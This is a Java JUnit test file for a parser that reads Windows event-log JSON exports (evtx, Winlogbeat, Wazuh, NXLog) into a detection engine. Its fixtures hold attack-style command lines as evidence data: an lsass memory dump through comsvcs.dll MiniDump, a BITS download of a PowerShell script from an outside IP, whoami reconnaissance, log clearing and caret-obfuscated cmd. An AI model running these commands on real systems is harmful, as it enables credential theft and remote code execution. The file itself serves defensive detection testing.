package org.gamekeeper.engine.source;

import org.gamekeeper.engine.Problem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.gamekeeper.engine.Event;
import org.junit.jupiter.api.Test;

class JsonSourceTest {

    final List<Event> events = new ArrayList<>();
    final List<Problem> problems = new ArrayList<>();

    void read(String name, String text) {
        read(new JsonSource(), name, text);
    }

    void read(JsonSource source, String name, String text) {
        source.read(name, new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), events::add, problems::add);
    }

    void readResource(String resource) {
        try (InputStream in = getClass().getResourceAsStream("/json/" + resource)) {
            new JsonSource().read(resource, in, events::add, problems::add);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void evtxDumpSystemFieldsGetInterfaceNames() {
        readResource("evtx-dump.json");
        assertEquals(List.of(), problems);
        assertEquals(3, events.size());
        Event e = events.get(0);
        assertEquals(7045, e.eventId());
        assertEquals("7045", e.field("EventID"));
        assertEquals("16384", e.field("Qualifiers"));
        assertEquals("Service Control Manager", e.provider());
        assertEquals("{555908d1-a6d7-4695-8e1e-26931d2012f4}", e.field("Provider_Guid"));
        assertEquals("System", e.channel());
        assertEquals("WS01.corp.example", e.computer());
        assertEquals(1821, e.recordId());
        assertEquals("2024-03-02T10:15:30.123456Z", e.field("TimeCreated"));
        assertEquals(Instant.parse("2024-03-02T10:15:30.123Z").toEpochMilli(), e.timestampMillis());
        assertEquals("4", e.field("Level"));
        assertEquals("0x8080000000000000", e.field("Keywords"));
        assertEquals("668", e.field("ProcessID"));
        assertEquals("4120", e.field("ThreadID"));
        assertEquals("S-1-5-21-1004336348-1177238915-682003330-1105", e.field("UserID"));
        assertEquals("{0e5cbb7a-1c43-4b5e-9a2a-0c7e1e5f6d11}", e.field("ActivityID"));
        assertEquals("{1b6fd9c2-5e3b-4d7a-8f2e-2c1a4d9b7e22}", e.field("RelatedActivityID"));
        assertEquals("0", e.field("Version"));
        assertEquals("0", e.field("Opcode"));
        assertEquals("0", e.field("Task"));
    }

    @Test
    void evtxDumpEventDataByNameAndEveryFieldByFullPath() {
        readResource("evtx-dump.json");
        Event e = events.get(0);
        assertEquals("PSEXESVC", e.field("ServiceName"));
        assertEquals("%SystemRoot%\\PSEXESVC.exe", e.field("ImagePath"));
        assertEquals("%SystemRoot%\\PSEXESVC.exe", e.field("Event.EventData.ImagePath"));
        assertEquals("7045", e.field("Event.System.EventID"));
        assertEquals("668", e.field("Event.System.Execution.ProcessID"));
        assertNull(e.field("CommandLine"));
    }

    @Test
    void evtxDumpUnnamedDataIsOneMultiValuedField() {
        readResource("evtx-dump.json");
        Event e = events.get(1);
        assertEquals(List.of("lsass.exe", "10.0.19041.1", "c0000005"), e.fieldValues("Data"));
        assertEquals("lsass.exe", e.field("Data"));
        assertEquals("0000", e.field("Binary"));
        assertEquals(1000, e.eventId());
        assertEquals("0", e.field("Qualifiers"));
    }

    @Test
    void evtxDumpUserDataByLeafAndByPath() {
        readResource("evtx-dump.json");
        Event e = events.get(2);
        assertEquals("mallory", e.field("SubjectUserName"));
        assertEquals("mallory", e.field("UserData.LogFileCleared.SubjectUserName"));
        assertEquals("mallory", e.field("Event.UserData.LogFileCleared.SubjectUserName"));
        assertEquals(1102, e.eventId());
        assertEquals("Security", e.channel());
        assertNull(e.field("xmlns"));
    }

    @Test
    void xmlToJsonRenderingsWithNamedDataElementsGetTheSameNames() {
        read("x.json", "{\"Event\":{\"@xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\","
            + "\"System\":{\"Provider\":{\"@Name\":\"Microsoft-Windows-Security-Auditing\"},"
            + "\"EventID\":{\"@Qualifiers\":\"\",\"#text\":\"4688\"},\"TimeCreated\":{\"@SystemTime\":"
            + "\"2024-03-02T10:15:30.1234567Z\"},\"EventRecordID\":\"77\",\"Channel\":\"Security\","
            + "\"Computer\":\"WS01\"},\"EventData\":{\"Data\":[{\"@Name\":\"NewProcessName\",\"#text\":"
            + "\"C:\\\\Windows\\\\System32\\\\cmd.exe\"},{\"#attributes\":{\"Name\":\"CommandLine\"},"
            + "\"#text\":\"cmd /c ver\"},{\"@Name\":\"ParentProcessName\"}]}}}\n");
        assertEquals(List.of(), problems);
        Event e = events.get(0);
        assertEquals(4688, e.eventId());
        assertEquals(77, e.recordId());
        assertEquals("Microsoft-Windows-Security-Auditing", e.provider());
        assertEquals("2024-03-02T10:15:30.1234567Z", e.field("TimeCreated"));
        assertEquals("C:\\Windows\\System32\\cmd.exe", e.field("NewProcessName"));
        assertEquals("cmd /c ver", e.field("CommandLine"));
        assertEquals("cmd /c ver", e.field("Event.EventData.CommandLine"));
        assertEquals("", e.field("ParentProcessName"));
        assertNull(e.field("Data"));
    }

    @Test
    void winlogbeatMapsWinlogAndKeepsEcsPaths() {
        readResource("winlogbeat.ndjson");
        assertEquals(List.of(), problems);
        assertEquals(3, events.size());
        Event e = events.get(0);
        assertEquals(4688, e.eventId());
        assertEquals("Security", e.channel());
        assertEquals("WS01.corp.example", e.computer());
        assertEquals("Microsoft-Windows-Security-Auditing", e.provider());
        assertEquals(230918, e.recordId());
        assertEquals("cmd.exe /c whoami /all", e.field("CommandLine"));
        assertEquals("cmd.exe /c whoami /all", e.field("process.command_line"));
        assertEquals("0x113c", e.field("ProcessId"));
        assertEquals("4", e.field("ProcessID"));
        assertEquals("7296", e.field("ThreadID"));
        assertEquals("2024-03-02T10:15:31.456Z", e.field("TimeCreated"));
        assertEquals(Instant.parse("2024-03-02T10:15:31.456Z").toEpochMilli(), e.timestampMillis());
        assertEquals(List.of("process"), e.fieldValues("event.category"));
        assertEquals("Audit Success", e.field("Keywords"));
    }

    @Test
    void winlogbeatUserDataByLeafAndByOuterName() {
        readResource("winlogbeat.ndjson");
        Event e = events.get(1);
        assertEquals("mallory", e.field("SubjectUserName"));
        assertEquals("mallory", e.field("UserData.LogFileCleared.SubjectUserName"));
        assertEquals(1102, e.eventId());
    }

    @Test
    void winlogbeatSixTopLevelNamesAreMappedToo() {
        readResource("winlogbeat.ndjson");
        Event e = events.get(2);
        assertEquals(12, e.eventId());
        assertEquals("Microsoft-Windows-Sysmon/Operational", e.channel());
        assertEquals("WECserver.shire.com", e.computer());
        assertEquals("Microsoft-Windows-Sysmon", e.provider());
        assertEquals(4230544, e.recordId());
        assertEquals("CreateKey", e.field("EventType"));
        assertEquals("S-1-5-18", e.field("UserID"));
        assertEquals("2019-04-03T17:36:47.354Z", e.field("TimeCreated"));
    }

    @Test
    void wazuhEventchannelEventsGetInterfaceNamesWithTheirSecondEscapingUndone() {
        readResource("wazuh.json");
        assertEquals(List.of(), problems);
        assertEquals(3, events.size());
        Event agent = events.get(0);
        assertEquals(1, agent.eventId());
        assertEquals("Microsoft-Windows-Sysmon/Operational", agent.channel());
        assertEquals("Microsoft-Windows-Sysmon", agent.provider());
        assertEquals("WS07.corp.example", agent.computer());
        assertEquals(5120, agent.recordId());
        assertEquals(Instant.parse("2024-03-02T10:15:30.123Z").toEpochMilli(), agent.timestampMillis());
        assertEquals("C:\\Windows\\System32\\rundll32.exe", agent.field("Image"));
        assertEquals("\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 \\\\fs01\\drop\\l.dmp full",
            agent.field("CommandLine"), "a doubled backslash of Windows' own (a UNC path) stays doubled");
        assertEquals("CORP\\alice", agent.field("User"));
        assertEquals("648", agent.field("ProcessId"));
        assertEquals("2204", agent.field("ProcessID"), "the System's process, as Wazuh names it");
        assertEquals("C:\\Windows\\System32\\rundll32.exe", agent.field("win.eventdata.image"), "by its path too, unescaped");
        List<String> values = new ArrayList<>();
        agent.forEachValue(new org.gamekeeper.engine.ValueSink() {
            @Override
            public void text(String t) {
                values.add(t);
            }

            @Override
            public void ascii(byte[] bytes, int offset, int length) {
                values.add(new String(bytes, offset, length, StandardCharsets.ISO_8859_1));
            }

            @Override
            public void utf16(byte[] data, int offset, int chars) {
                throw new AssertionError("no UTF-16 in JSON");
            }

            @Override
            public void escapedAscii(byte[] bytes, int offset, int length) {
                values.add("escaped:" + new String(bytes, offset, length, StandardCharsets.ISO_8859_1));
            }
        });
        assertTrue(values.contains("CORP\\alice"), "a search over all values sees the unescaped text: " + values);

        Event alert = events.get(1);
        assertEquals(4688, alert.eventId());
        assertEquals("Security", alert.channel());
        assertEquals("WS08.corp.example", alert.computer());
        assertEquals("whoami /all > \"C:\\Users\\Public\\o.txt\"", alert.field("CommandLine"), "a quote escaped for Wazuh is a quote");
        assertEquals("C:\\Windows\\System32\\whoami.exe", alert.field("NewProcessName"));
        assertEquals("4", alert.field("ProcessID"));
        assertEquals(Instant.parse("2024-03-02T10:16:00Z").toEpochMilli(), alert.timestampMillis());

        Event plain = events.get(2);
        assertEquals("net use \\\\fs01\\share", plain.field("CommandLine"), "an event Wazuh did not escape twice is left as written");
        assertEquals("C:\\Windows\\System32\\net.exe", plain.field("Image"));
    }

    @Test
    void flatExportKeepsKeysAndAddsInterfaceNames() {
        readResource("nxlog-array.json");
        assertEquals(List.of(), problems);
        assertEquals(2, events.size());
        Event e = events.get(0);
        assertEquals(1, e.eventId());
        assertEquals("WORKSTATION5", e.computer());
        assertEquals("WORKSTATION5", e.field("Hostname"));
        assertEquals("Microsoft-Windows-Sysmon", e.provider());
        assertEquals("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", e.field("Provider_Guid"));
        assertEquals(757026, e.recordId());
        assertEquals("3888", e.field("ProcessID"));
        assertEquals("-9223372036854775808", e.field("Keywords"));
        assertTrue(e.field("CommandLine").contains("comsvcs.dll, MiniDump"));
        assertEquals(List.of("mordorDataset", "lsass"), e.fieldValues("tags"));
        // EventTime is NXLog local time without a zone: @timestamp is the UTC time there is
        assertEquals("2020-10-29T12:16:09.213Z", e.field("TimeCreated"));
        Event cleared = events.get(1);
        assertEquals("2020-10-29T12:16:07.900Z", cleared.field("TimeCreated"));
        assertEquals("true", cleared.field("Enabled"));
        assertEquals("", cleared.field("Note"));
        assertEquals(-1, cleared.recordId());
    }

    /** NXLog's export of the classic Windows PowerShell log keeps only the rendered message; written for this test. */
    @Test
    void anExportThatKeptOnlyTheRenderedMessageGivesItAsData() {
        String message = "Pipeline execution details for command line: Start-BitsTransfer -Source http://198.51.100.7/a.ps1. "
                + "Details: CommandInvocation(Start-BitsTransfer): \\\"Start-BitsTransfer\\\"";
        read("classic.json", "{\"EventID\":800,\"Channel\":\"Windows PowerShell\",\"Hostname\":\"WS01\",\"Message\":\"" + message + "\"}\n"
                + "{\"EventID\":1000,\"Channel\":\"Application\",\"Data\":[\"lsass.exe\",\"c0000005\"],\"Message\":\"Faulting application name: lsass.exe\"}\n"
                + "{\"EventID\":4624,\"Channel\":\"Security\",\"TargetUserName\":\"alice\"}\n");
        assertEquals(List.of(), problems);
        assertEquals(message.replace("\\\"", "\""), events.get(0).field("Data"));
        assertEquals(events.get(0).field("Message"), events.get(0).field("Data"));
        assertEquals(List.of("lsass.exe", "c0000005"), events.get(1).fieldValues("Data"), "an event's own Data is kept");
        assertNull(events.get(2).field("Data"), "no message, no Data");
        List<String> keys = new ArrayList<>();
        events.get(0).forEachField((k, v) -> keys.add(k));
        assertFalse(keys.contains("Data"), "the alias is for matching, not a field of its own: " + keys);
    }

    @Test
    void numbersKeepTheirTextAndForEachFieldVisitsEveryValueOnce() {
        read("n.json", "{\"a\":4688,\"b\":1.50,\"c\":[1,2],\"d\":{\"e\":\"x\"}}\n");
        Event e = events.get(0);
        assertEquals("4688", e.field("a"));
        assertEquals("1.50", e.field("b"));
        assertEquals("x", e.field("d.e"));
        List<String> seen = new ArrayList<>();
        e.forEachField((k, v) -> seen.add(k + "=" + v));
        assertEquals(List.of("a=4688", "b=1.50", "c=1", "c=2", "d.e=x"), seen);
    }

    @Test
    void zonelessTimesAreUtcUnlessAZoneIsGiven() {
        String text = "{\"TimeCreated\":\"2020-10-18 07:50:06.220\"}\n{\"EventTime\":\"2020-10-18 07:50:06\"}\n"
            + "{\"EventTime\":\"2020-10-18T07:50:06+02:00\"}\n{\"EventTime\":\"18/10/2020 07:50\"}\n";
        read("t.json", text);
        assertEquals(Instant.parse("2020-10-18T07:50:06.220Z").toEpochMilli(), events.get(0).timestampMillis());
        assertEquals(Instant.parse("2020-10-18T07:50:06Z").toEpochMilli(), events.get(1).timestampMillis());
        assertEquals("2020-10-18 07:50:06", events.get(1).field("TimeCreated"));
        assertEquals(Instant.parse("2020-10-18T05:50:06Z").toEpochMilli(), events.get(2).timestampMillis());
        assertEquals(Long.MIN_VALUE, events.get(3).timestampMillis(), "not an ISO-8601 time: no time");
        // in a configured zone, a zone-less time is that zone's wall clock; a zoned one stays as it is
        List<Event> inParis = new ArrayList<>();
        new JsonSource().withZonelessTimesIn(java.time.ZoneId.of("Europe/Paris")).read("t.json",
            new java.io.ByteArrayInputStream(text.getBytes(java.nio.charset.StandardCharsets.UTF_8)), inParis::add, problems::add);
        assertEquals(Instant.parse("2020-10-18T05:50:06.220Z").toEpochMilli(), inParis.get(0).timestampMillis());
        assertEquals(Instant.parse("2020-10-18T05:50:06Z").toEpochMilli(), inParis.get(1).timestampMillis());
        assertEquals(Instant.parse("2020-10-18T05:50:06Z").toEpochMilli(), inParis.get(2).timestampMillis());
    }

    /** Every field of an event as {@code name=value}, in the order forEachField gives them. */
    static List<String> fields(Event e) {
        List<String> seen = new ArrayList<>();
        e.forEachField((k, v) -> seen.add(k + "=" + v));
        return seen;
    }

    @Test
    void aKeySetInAnotherOrderNamesTheSameButVisitsInItsOwnOrder() {
        // Winlogbeat (Go maps) writes keys in random order: the second and third events have the
        // first one's keys in other orders, the fourth one more tag (so another key set)
        read("order.json", """
            {"event_id":4688,"log_name":"Security","computer_name":"WS1","event_data":{"NewProcessName":"C:\\\\a.exe","CommandLine":"a -x"},"tags":["p","q"]}
            {"tags":["r","s"],"event_data":{"CommandLine":"b -y","NewProcessName":"C:\\\\b.exe"},"computer_name":"WS2","log_name":"Security","event_id":4689}
            {"log_name":"Security","tags":["t","u"],"event_id":4690,"event_data":{"CommandLine":"c -z","NewProcessName":"C:\\\\c.exe"},"computer_name":"WS3"}
            {"log_name":"Security","tags":["v","w","x"],"event_id":4691,"event_data":{"CommandLine":"d","NewProcessName":"C:\\\\d.exe"},"computer_name":"WS4"}
            """);
        assertEquals(List.of(), problems);
        assertEquals(4, events.size());
        for (int i = 0; i < 4; i++) {
            Event e = events.get(i);
            assertEquals(4688 + i, e.eventId());
            assertEquals("Security", e.channel());
            assertEquals("WS" + (i + 1), e.computer());
            assertEquals("C:\\" + (char) ('a' + i) + ".exe", e.field("NewProcessName"));
            assertEquals("C:\\" + (char) ('a' + i) + ".exe", e.field("event_data.NewProcessName"));
        }
        assertEquals("a -x", events.get(0).field("CommandLine"));
        assertEquals("b -y", events.get(1).field("commandline")); // the loose form too
        assertEquals(List.of("t", "u"), events.get(2).fieldValues("tags"));
        assertEquals(List.of("v", "w", "x"), events.get(3).fieldValues("tags"));
        assertEquals(List.of("event_id=4688", "log_name=Security", "computer_name=WS1", "event_data.NewProcessName=C:\\a.exe",
            "event_data.CommandLine=a -x", "tags=p", "tags=q"), fields(events.get(0)));
        assertEquals(List.of("tags=r", "tags=s", "event_data.CommandLine=b -y", "event_data.NewProcessName=C:\\b.exe",
            "computer_name=WS2", "log_name=Security", "event_id=4689"), fields(events.get(1)));
        assertEquals(List.of("log_name=Security", "tags=t", "tags=u", "event_id=4690", "event_data.CommandLine=c -z",
            "event_data.NewProcessName=C:\\c.exe", "computer_name=WS3"), fields(events.get(2)));
    }

    @Test
    void aConsultedTimeIsReadInEachOrder() {
        // NXLog's EventTime names TimeCreated only when it is a readable time: the same keys in
        // another order must look at their own EventTime, wherever it is
        read("t.json", """
            {"EventTime":"2020-10-18T07:50:06+02:00","Hostname":"A","EventID":1}
            {"Hostname":"B","EventID":1,"EventTime":"yesterday"}
            {"EventID":1,"EventTime":"2020-10-18T09:00:00Z","Hostname":"C"}
            {"Hostname":"D","EventTime":"2020-10-18 08:00:00","EventID":1}
            """);
        assertEquals(List.of(), problems);
        assertEquals(Instant.parse("2020-10-18T05:50:06Z").toEpochMilli(), events.get(0).timestampMillis());
        assertNull(events.get(1).field("TimeCreated"));
        assertEquals(Instant.parse("2020-10-18T09:00:00Z").toEpochMilli(), events.get(2).timestampMillis());
        assertEquals(Instant.parse("2020-10-18T08:00:00Z").toEpochMilli(), events.get(3).timestampMillis());
        assertEquals(List.of("A", "B", "C", "D"), events.stream().map(Event::computer).toList());
    }

    @Test
    void manyEventsEachInItsOwnKeyOrderAreAllNamedRight() {
        // more orders than the layout cache keeps, so most events are laid out afresh from the first
        java.util.Random random = new java.util.Random(7);
        List<String> keys = new ArrayList<>();
        for (int k = 0; k < 12; k++) {
            keys.add("k" + k);
        }
        StringBuilder text = new StringBuilder();
        List<List<String>> orders = new ArrayList<>();
        for (int i = 0; i < 6000; i++) {
            java.util.Collections.shuffle(keys, random);
            orders.add(List.copyOf(keys));
            text.append('{');
            for (int k = 0; k < keys.size(); k++) {
                text.append(k == 0 ? "" : ",").append('"').append(keys.get(k)).append("\":\"").append(keys.get(k)).append('-').append(i).append('"');
            }
            text.append("}\n");
        }
        read("random.json", text.toString());
        assertEquals(List.of(), problems);
        assertEquals(6000, events.size());
        for (int i = 0; i < 6000; i++) {
            Event e = events.get(i);
            assertEquals("k5-" + i, e.field("k5"));
            assertEquals("k11-" + i, e.field("K11"));
            final int n = i;
            assertEquals(orders.get(i).stream().map(k -> k + "=" + k + "-" + n).toList(), fields(e));
        }
    }

    static final String ONE = "{\"EventID\":4624,\"Channel\":\"Security\",\"Hostname\":\"DC1\",\"TargetUserName\":\"alice\"}";
    static final String TWO = "{\"EventID\":4625,\"Channel\":\"Security\",\"Hostname\":\"DC1\",\"TargetUserName\":\"bob\"}";
    static final String THREE = "{\"EventID\":4634,\"Channel\":\"Security\",\"Hostname\":\"DC1\",\"TargetUserName\":\"eve\"}";

    List<String> users() {
        return events.stream().map(e -> e.field("TargetUserName")).toList();
    }

    @Test
    void oneValuePerLine() {
        read("l.json", ONE + "\n" + TWO + "\r\n\n" + THREE);
        assertEquals(List.of("alice", "bob", "eve"), users());
        assertEquals(List.of(1L, 2L, 4L), events.stream().map(Event::line).toList());
        assertEquals(List.of(), problems);
    }

    @Test
    void prettyPrintedValuesOneAfterAnother() {
        read("p.json", "{\n  \"EventID\": 4624,\n  \"TargetUserName\": \"alice\"\n}\n{\n  \"EventID\": 4625,\n"
            + "  \"TargetUserName\": \"bob\"\n}{\"TargetUserName\":\"eve\"}");
        assertEquals(List.of("alice", "bob", "eve"), users());
        assertEquals(List.of(1L, 5L, 8L), events.stream().map(Event::line).toList());
        assertEquals(List.of(), problems);
    }

    @Test
    void oneTopLevelArray() {
        read("a.json", "\uFEFF[\n  " + ONE + ",\n  " + TWO + ",\n  " + THREE + "\n]\n");
        assertEquals(List.of("alice", "bob", "eve"), users());
        assertEquals(List.of(), problems);
    }

    @Test
    void lineCutOffInsideAStringIsReportedAndTheNextLineRead() {
        read("cut.json", ONE + "\n{\"EventID\":4625,\"TargetUserName\":\"bo\n" + THREE + "\n");
        assertEquals(List.of("alice", "eve"), users());
        assertEquals(1, problems.size());
        assertEquals("cut.json", problems.get(0).file());
        assertEquals(2, problems.get(0).line());
    }

    @Test
    void lineCutOffOutsideAStringResynchronisesAtTheNextValue() {
        read("cut.json", "{\n  \"EventID\": 1,\n  \"TargetUserName\": \"alice\",\n  \"More\": {\n"
            + "{\n  \"TargetUserName\": \"bob\"\n}\n");
        assertEquals(List.of("bob"), users());
        assertEquals(1, problems.size());
        assertEquals(1, problems.get(0).line());
        assertTrue(problems.get(0).what().contains("line 5"), problems.get(0).what());
    }

    @Test
    void badJsonIsReportedWithItsLineAndTheRestRead() {
        read("bad.json", ONE + "\n{\"EventID\":4625,\"TargetUserName\":bob}\n" + THREE + "\n");
        assertEquals(List.of("alice", "eve"), users());
        assertEquals(1, problems.size());
        assertEquals(2, problems.get(0).line());
        assertEquals("bad.json:line 2", problems.get(0).place());
    }

    @Test
    void badJsonInAPrettyValueNamesTheLineOfTheFault() {
        read("bad.json", "{\n  \"a\": 1,\n  \"b\": nope\n}\n" + THREE);
        assertEquals(List.of("eve"), users());
        assertEquals(3, problems.get(0).line());
    }

    @Test
    void garbageBetweenEventsIsSkippedToTheEndOfItsLine() {
        read("g.json", ONE + "\nwarning: export interrupted " + TWO + "\n" + THREE + "\n");
        assertEquals(List.of("alice", "eve"), users());
        assertEquals(1, problems.size());
        assertEquals(2, problems.get(0).line());
    }

    @Test
    void eventLargerThanTheBoundIsReportedAndSkipped() {
        String big = "{\"TargetUserName\":\"" + "x".repeat(500) + "\"}";
        read(new JsonSource(200), "big.json", ONE + "\n" + big + "\n" + THREE + "\n");
        assertEquals(List.of("alice", "eve"), users());
        assertEquals(1, problems.size());
        assertEquals(2, problems.get(0).line());
        assertTrue(problems.get(0).what().contains("larger than 200 bytes"));
    }

    @Test
    void truncatedLastEventIsReported() {
        read("t.json", ONE + "\n{\"EventID\":4625,");
        assertEquals(List.of("alice"), users());
        assertEquals(1, problems.size());
        assertEquals(2, problems.get(0).line());
    }

    @Test
    void unclosedTopLevelArrayIsReportedButItsEventsKept() {
        read("t.json", "[" + ONE + "," + TWO);
        assertEquals(List.of("alice", "bob"), users());
        assertEquals(1, problems.size());
    }

    @Test
    void eventsLargerThanTheReadBufferAreWhole() {
        String cmd = "y".repeat(3_000_000); // the read buffer is 1 MiB
        read("long.json", ONE + "\n{\"CommandLine\":\"" + cmd + "\",\"TargetUserName\":\"bob\"}\n" + THREE);
        assertEquals(List.of("alice", "bob", "eve"), users());
        assertEquals(cmd, events.get(1).field("CommandLine"));
        assertEquals(ONE.length() + 1, events.get(1).offset());
    }

    @Test
    void successiveHugeEscapedValuesEachDecodeToTheirOwnText() {
        // Escape-dense values over the read buffer: each event's bytes gather in the kept event
        // buffer and its text is decoded through the thread's scratch buffer, both reused; a
        // shorter value after a longer one must not carry the longer one's tail.
        String first = "\"\"a".repeat(700_000);
        String second = "b\\\"".repeat(400_000);
        String third = "\"c\\".repeat(10_000); // under the scratch length: decoded the plain way
        StringBuilder text = new StringBuilder();
        for (String v : List.of(first, second, third, first)) {
            text.append("{\"CommandLine\":\"").append(v.replace("\\", "\\\\").replace("\"", "\\\""))
                .append("\",\"TargetUserName\":\"u").append(v.length()).append("\"}\n");
        }
        read("dense.json", text.toString());
        assertEquals(List.of(), problems);
        assertEquals(4, events.size());
        assertEquals(first, events.get(0).field("CommandLine"));
        assertEquals(second, events.get(1).field("CommandLine"));
        assertEquals(third, events.get(2).field("CommandLine"));
        assertEquals(first, events.get(3).field("CommandLine"));
        assertEquals("u" + second.length(), events.get(1).field("TargetUserName"));
    }
    @Test
    void aReaderThatGrewItsBufferForLargeEventsReadsWhatASmallBufferReads() {
        // Events of half a read buffer or more make the reader's buffer grow (up to 8 MiB): after
        // the first few, large events are parsed where they lie instead of framed and copied.
        // Whichever way each went, every value, line and offset is what a reader with a small
        // buffer (every event framed across reads) finds.
        java.util.Random random = new java.util.Random(20);
        StringBuilder text = new StringBuilder();
        List<String> commands = new ArrayList<>();
        for (int e = 0; e < 40; e++) {
            int length = random.nextInt(3) == 0 ? 10 + random.nextInt(100) : 300_000 + random.nextInt(900_000);
            StringBuilder v = new StringBuilder(length);
            for (int k = 0; k < length; k++) {
                v.append("ab\"\\ c".charAt(random.nextInt(6)));
            }
            commands.add(v.toString());
            text.append("{\"CommandLine\":\"").append(v.toString().replace("\\", "\\\\").replace("\"", "\\\""))
                .append("\",\"TargetUserName\":\"u").append(e).append("\"}\n");
            if (random.nextBoolean()) {
                text.append("\n");
            }
        }
        read("grown.json", text.toString());
        List<Event> grown = List.copyOf(events);
        events.clear();
        read(new JsonSource(JsonSource.DEFAULT_MAX_EVENT_BYTES, 64 << 10), "small.json", text.toString());
        assertEquals(List.of(), problems);
        assertEquals(40, grown.size());
        assertEquals(40, events.size());
        for (int e = 0; e < 40; e++) {
            assertEquals(commands.get(e), grown.get(e).field("CommandLine"), "event " + e);
            assertEquals("u" + e, grown.get(e).field("TargetUserName"));
            assertEquals(events.get(e).offset(), grown.get(e).offset(), "offset of event " + e);
            assertEquals(events.get(e).line(), grown.get(e).line(), "line of event " + e);
        }
    }
    @Test
    void aDerivedNameInTheEvidenceDoesNotOverrideTheDerivedValue() {
        // Evidence may carry a field named like a derived one (another tool's output, or an
        // attacker's harmless "normalised" text beside a malicious command line): rules reading
        // the name get Gamekeeper's own normalisation; the field is still listed with its text.
        read("planted.json", "{\"EventID\":1,\"CommandLine\":\"c^m^d /c who^ami\",\"CommandLineNormalized\":\"benign\"}\n");
        assertEquals(List.of(), problems);
        Event e = events.get(0);
        assertEquals(org.gamekeeper.engine.mapping.CommandLineNormalizer.normalize("c^m^d /c who^ami"), e.field("CommandLineNormalized"));
        assertTrue(e.field("CommandLineNormalized").contains("whoami"), e.field("CommandLineNormalized"));
        List<String> listed = new ArrayList<>();
        e.forEachField((k, v) -> {
            if (k.equals("CommandLineNormalized")) {
                listed.add(v);
            }
        });
        assertEquals(List.of("benign"), listed);
    }
}
